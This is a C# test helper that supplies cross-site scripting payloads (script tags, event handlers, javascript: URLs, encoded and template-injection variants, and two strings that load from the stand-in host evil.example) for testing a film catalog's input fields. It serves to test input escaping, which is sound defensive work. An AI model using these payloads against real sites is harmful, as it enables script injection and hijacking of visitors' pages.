
namespace FilmCatalog.Testing;

/// <summary>
/// Payloads for the plain-text fields a visitor types (headline, display name, report comment) and
/// for seed files: the short HTML-context classics, then every corpus payload that fits the field.
/// </summary>
public static class FieldPayloads
{
    public static IReadOnlyList<string> Short { get; } =
    [
        "\"><script>alert(1)</script>",
        "'><img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "javascript:alert(1)",
        "</title><script>alert(1)</script>",
        "\" onmouseover=\"alert(1)",
        "' onfocus='alert(1)' autofocus='",
        "</script><script>alert(1)</script>",
        "<iframe src=javascript:alert(1)>",
        "<object data=javascript:alert(1)>",
        "<embed src=javascript:alert(1)>",
        "<style>@import'//evil.example'</style>",
        "<a href=javascript:alert(1)>x</a>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=0>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "<details open ontoggle=alert(1)>",
        "<body onload=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<video><source onerror=alert(1)>",
        "<x onclick=alert(1)>click me",
        "]]><script>alert(1)</script>",
        "<!--<script>alert(1)</script>-->",
        "';alert(1);//",
        "\\\";alert(1);//",
        "</textarea><script>alert(1)</script>",
        "<marquee onstart=alert(1)>",
        "<svg><animate onbegin=alert(1)>",
        "<img src=x:alert(alt) onerror=eval(src)>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "{{constructor.constructor('alert(1)')()}}",
        "<form action=javascript:alert(1)><input type=submit>",
        "<isindex action=javascript:alert(1)>",
        "<button formaction=javascript:alert(1)>x",
        "\u003cscript\u003ealert(1)\u003c/script\u003e",
        "<scr<script>ipt>alert(1)</script>",
        "[x](javascript:alert(1))",
        "![x](javascript:alert(1))",
        "<https://evil.example/\"onmouseover=\"alert(1)>",
    ];

    /// <summary>At least <paramref name="minimum"/> payloads that are one line of at most <paramref name="maxLength"/> characters.</summary>
    public static IReadOnlyList<string> ForLine(int maxLength, int minimum = 60)
    {
        var payloads = Short.Concat(XssCorpus.Payloads)
            .Where(p => p.Length >= 3 && p.Length <= maxLength && !p.Any(char.IsControl) && p.Trim() == p)
            .Distinct()
            .ToList();
        Assert.True(payloads.Count >= minimum, $"only {payloads.Count} payloads fit {maxLength} characters");
        return payloads;
    }
}
